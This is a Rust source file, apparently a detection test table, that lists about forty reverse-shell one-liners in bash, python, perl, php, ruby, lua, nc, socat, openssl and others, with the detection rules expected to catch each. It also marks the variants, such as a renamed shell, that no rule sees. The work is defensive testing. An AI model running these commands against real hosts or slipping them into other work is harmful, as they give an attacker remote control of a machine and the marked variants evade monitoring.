//! The table: how reverse shells are made, and which rules see each.
//!
//! In command lines, A and P stand for the address and port of the far end.

use super::Way::{Accepts, Connects, ConnectsByTls};
use super::{Found, Technique, Way};
use crate::expect::{DESCENDANT_RULE, RELAY_RULE, RULE, SOCKET_RULE};

const fn technique(name: &'static str, way: Way, found: Found, why: &'static str) -> Technique {
    Technique { name, way, found, why }
}

const NOTHING: Found = &[];
const ON_SOCKET: Found = &[SOCKET_RULE];
const VIA_CHILD_ON_SOCKET: Found = &[RULE, SOCKET_RULE];
const DESCENDANT_RELAYED: Found = &[DESCENDANT_RULE, RELAY_RULE];
const RELAYED: Found = &[RELAY_RULE];

/// What connects, becomes or starts a shell that stands on the connection.
const ITS_STREAMS: &str = "standard input and output are the connection";
/// The rule's flags, in the process that has connected.
const FLAG: &str = "the process that connects executes the shell with -i or -l";
/// A program between the connection and the shell, which it has started.
const BETWEEN: &str = "the program that connects starts a shell that reads commands from a pipe or a UNIX socket";
const PTY: &str = "the program that connects starts a shell on a terminal of its own";
/// The same, by socat.
const SOCAT: &str = "a descendant of a socat that executes programs and connects becomes a shell, on a UNIX socket or a terminal of its own";
/// Neither is the other's descendant.
const BESIDE: &str = "the program that connects and the shell are started beside each other, joined by pipes";

/// All of them.
pub(crate) const TECHNIQUES: &[Technique] = &[
    technique("bash: -i", Connects(&["bash", "-c", "bash -i >& /dev/tcp/A/P 0>&1"]), VIA_CHILD_ON_SOCKET, FLAG),
    technique(
        "bash: exec, -i",
        Connects(&["bash", "-c", "exec bash -i &>/dev/tcp/A/P <&1"]),
        VIA_CHILD_ON_SOCKET,
        FLAG,
    ),
    technique("bash: -l", Connects(&["bash", "-c", "exec bash -l &>/dev/tcp/A/P <&1"]), VIA_CHILD_ON_SOCKET, FLAG),
    technique("bash: no flag", Connects(&["bash", "-c", "exec bash &>/dev/tcp/A/P <&1"]), ON_SOCKET, ITS_STREAMS),
    technique("bash: -li", Connects(&["bash", "-c", "exec bash -li &>/dev/tcp/A/P <&1"]), ON_SOCKET, ITS_STREAMS),
    technique(
        "bash: --login",
        Connects(&["bash", "-c", "exec bash --login &>/dev/tcp/A/P <&1"]),
        ON_SOCKET,
        ITS_STREAMS,
    ),
    technique(
        "bash: descriptor 196, in a child",
        Connects(&["bash", "-c", "0<&196;exec 196<>/dev/tcp/A/P; sh <&196 >&196 2>&196; true"]),
        ON_SOCKET,
        ITS_STREAMS,
    ),
    technique(
        "bash: an orphan in a session of its own",
        Connects(&["bash", "-c", "exec 5<>/dev/tcp/A/P; (setsid sh <&5 >&5 2>&5 &)"]),
        ON_SOCKET,
        ITS_STREAMS,
    ),
    technique(
        "bash: a grandchild",
        Connects(&["bash", "-c", "exec 5<>/dev/tcp/A/P; (sh -c 'sh <&5 >&5 2>&5; true'; true); true"]),
        ON_SOCKET,
        ITS_STREAMS,
    ),
    technique(
        "bash: commands read from the connection, one by one",
        Connects(&["bash", "-c", "exec 5<>/dev/tcp/A/P; while read line <&5; do eval \"$line\" >&5 2>&5; done"]),
        NOTHING,
        "no shell is executed: the one that connected reads commands",
    ),
    technique(
        "zsh: ztcp, -i",
        Connects(&["zsh", "-fc", "zmodload zsh/net/tcp; ztcp A P; exec zsh -fi <&$REPLY >&$REPLY 2>&1"]),
        ON_SOCKET,
        "the flag is -fi, not -i; standard input and output are the connection",
    ),
    technique(
        "ksh: -i",
        Connects(&["ksh", "-c", "exec 5<>/dev/tcp/A/P; exec ksh -i <&5 >&5 2>&5"]),
        VIA_CHILD_ON_SOCKET,
        FLAG,
    ),
    technique(
        "python: execve",
        Connects(&[
            "python3",
            "-c",
            "import os,socket; s=socket.create_connection(('A',P)); [os.dup2(s.fileno(),n) for n in (0,1,2)]; \
             os.execlp('sh','sh','-i')",
        ]),
        ON_SOCKET,
        ITS_STREAMS,
    ),
    technique(
        "python: subprocess",
        Connects(&[
            "python3",
            "-c",
            "import socket,subprocess; s=socket.create_connection(('A',P)); subprocess.call(['sh','-i'],stdin=s,stdout=s,stderr=s)",
        ]),
        ON_SOCKET,
        ITS_STREAMS,
    ),
    technique(
        "python: pty.spawn",
        Connects(&[
            "python3",
            "-c",
            "import os,pty,socket; s=socket.create_connection(('A',P)); [os.dup2(s.fileno(),n) for n in (0,1,2)]; pty.spawn('sh')",
        ]),
        RELAYED,
        PTY,
    ),
    technique(
        "perl: exec",
        Connects(&[
            "perl",
            "-MSocket",
            "-e",
            "socket(S,PF_INET,SOCK_STREAM,0); connect(S,sockaddr_in(P,inet_aton(\"A\"))); \
             open(STDIN,\"<&S\"); open(STDOUT,\">&S\"); open(STDERR,\">&S\"); exec(\"sh\",\"-i\")",
        ]),
        ON_SOCKET,
        ITS_STREAMS,
    ),
    technique(
        "php: proc_open",
        Connects(&[
            "php",
            "-r",
            "$s=fsockopen(\"A\",P); $p=proc_open([\"sh\"],[0=>$s,1=>$s,2=>$s],$pipes); proc_close($p);",
        ]),
        ON_SOCKET,
        ITS_STREAMS,
    ),
    technique(
        "php: exec with descriptor 3",
        Connects(&["php", "-n", "-r", "$s=fsockopen(\"A\",P); exec(\"sh <&3 >&3 2>&3\");"]),
        ON_SOCKET,
        ITS_STREAMS,
    ),
    technique(
        "ruby: exec",
        Connects(&[
            "ruby",
            "-rsocket",
            "-e",
            "c=TCPSocket.new(\"A\",P); [$stdin,$stdout,$stderr].each{|f| f.reopen(c)}; exec(\"sh\")",
        ]),
        ON_SOCKET,
        ITS_STREAMS,
    ),
    technique(
        "ruby: spawn",
        Connects(&[
            "ruby",
            "-rsocket",
            "-e",
            "c=TCPSocket.new(\"A\",P); Process.wait spawn(\"sh\",[:in,:out,:err]=>c)",
        ]),
        ON_SOCKET,
        ITS_STREAMS,
    ),
    technique(
        "lua: os.execute",
        Connects(&[
            "lua5.4",
            "-e",
            "local s=require('socket').tcp(); s:connect('A',P); local f=s:getfd(); \
             os.execute(('sh <&%d >&%d 2>&%d'):format(f,f,f))",
        ]),
        ON_SOCKET,
        ITS_STREAMS,
    ),
    technique("nc: -e, traditional", Connects(&["nc.traditional", "A", "P", "-e", "/bin/sh"]), ON_SOCKET, ITS_STREAMS),
    technique(
        "nc: -l -e, traditional",
        Accepts(&["nc.traditional", "-l", "-s", "A", "-p", "P", "-e", "/bin/sh"]),
        ON_SOCKET,
        ITS_STREAMS,
    ),
    technique("nc: -e, busybox", Connects(&["busybox", "nc", "A", "P", "-e", "/bin/sh"]), ON_SOCKET, ITS_STREAMS),
    technique("ncat: --exec", Connects(&["ncat", "A", "P", "--exec", "/bin/sh"]), RELAYED, BETWEEN),
    technique("ncat: --sh-exec", Connects(&["ncat", "A", "P", "--sh-exec", "sh -i"]), RELAYED, BETWEEN),
    technique("nc: a named pipe", Connects(&["bash", "-c", "mkfifo f; cat f | sh 2>&1 | nc A P >f"]), NOTHING, BESIDE),
    technique(
        "openssl: a named pipe",
        ConnectsByTls(&["bash", "-c", "mkfifo f; sh <f 2>&1 | openssl s_client -quiet -connect A:P >f"]),
        NOTHING,
        BESIDE,
    ),
    technique(
        "telnet: a named pipe",
        Connects(&["bash", "-c", "mkfifo f; telnet A P 0<f | sh 1>f 2>&1"]),
        NOTHING,
        BESIDE,
    ),
    technique(
        "gawk: commands read from the connection, one by one",
        Connects(&[
            "gawk",
            "BEGIN{s=\"/inet/tcp/0/A/P\"; while((s|&getline c)>0){while((c|&getline)>0)print $0|&s; close(c)}}",
        ]),
        NOTHING,
        "a shell for each command, on pipes",
    ),
    technique(
        "socat: EXEC,nofork, -i",
        Connects(&["socat", "TCP:A:P", "EXEC:sh -i,nofork"]),
        VIA_CHILD_ON_SOCKET,
        FLAG,
    ),
    technique("socat: EXEC,nofork", Connects(&["socat", "TCP:A:P", "EXEC:sh,nofork"]), ON_SOCKET, ITS_STREAMS),
    technique(
        "socat: TCP-LISTEN EXEC,nofork",
        Accepts(&["socat", "TCP-LISTEN:P,bind=A", "EXEC:sh,nofork"]),
        ON_SOCKET,
        ITS_STREAMS,
    ),
    technique("socat: EXEC", Connects(&["socat", "TCP:A:P", "EXEC:sh"]), DESCENDANT_RELAYED, SOCAT),
    technique(
        "socat: EXEC,pty",
        Connects(&["socat", "TCP:A:P", "EXEC:sh,pty,stderr,setsid"]),
        DESCENDANT_RELAYED,
        SOCAT,
    ),
    technique("socat: SYSTEM", Connects(&["socat", "TCP:A:P", "SYSTEM:sh"]), RELAYED, BETWEEN),
    technique(
        "socat: TCP-LISTEN,fork EXEC",
        Accepts(&["socat", "TCP-LISTEN:P,bind=A,fork", "EXEC:sh"]),
        DESCENDANT_RELAYED,
        SOCAT,
    ),
    technique(
        "socat: SYSTEM, -i",
        Connects(&["socat", "TCP:A:P", "SYSTEM:sh -i"]),
        DESCENDANT_RELAYED,
        "a descendant of the process that connects executes the shell with -i or -l",
    ),
    technique(
        "perl: a child on pipes",
        Connects(&[
            "perl",
            "-MIO::Socket::INET",
            "-MIPC::Open2",
            "-e",
            "$|=1; $s=IO::Socket::INET->new(\"A:P\"); $p=open2($o,$i,\"sh\"); if(fork){while(<$s>){syswrite($i,$_)}} \
             else{while(<$o>){syswrite($s,$_)}}",
        ]),
        RELAYED,
        BETWEEN,
    ),
    technique(
        "python: a double fork, on a terminal",
        Connects(&[
            "python3",
            "-c",
            "import os,pty,socket; s=socket.create_connection(('A',P)); os.fork() and os._exit(0); os.setsid(); \
             os.fork() and os._exit(0); [os.dup2(s.fileno(),n) for n in (0,1,2)]; pty.spawn('bash')",
        ]),
        RELAYED,
        PTY,
    ),
    technique(
        "a shell under another name",
        Connects(&["bash", "-c", "cp -L $(command -v dash) ./innocent; exec ./innocent &>/dev/tcp/A/P <&1"]),
        NOTHING,
        "neither the executable nor the thread is called like a shell",
    ),
];
